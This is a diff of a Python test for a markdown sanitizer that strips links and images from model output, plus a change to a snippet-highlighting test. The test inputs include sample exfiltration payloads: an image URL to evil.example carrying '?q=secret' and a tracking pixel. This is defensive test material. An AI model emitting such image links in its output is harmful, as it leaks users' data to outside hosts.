@@ -340,5 +340,5 @@ def test_markdown_from_a_model_loses_its_links_and_images_and_document_text_read
     said = safe_markdown("## Paid Time Off\n*three* days ![x](http://evil.example/?q=secret) [policy](http://a.b) [2]")
     assert said == "## Paid Time Off\n*three* days x policy [2]"
     assert safe_markdown("[1]: http://evil.example/pixel\n![tracker][1]") == "\ntracker"
-    shown = in_context("# Payroll\nSalaries are paid on the 25th. *Not* before.", "Salaries are paid on the 25th.")
-    assert shown == "\\# Payroll  \n**Salaries are paid on the 25th\\.** \\*Not\\* before\\."
+    shown = in_context("# Payroll\nSalaries are paid on\nthe 25th. *Not* before.", "Salaries are paid on the 25th.")
+    assert shown == "**Salaries are paid on the 25th\\.** \\*Not\\* before\\.", "found across a line break"
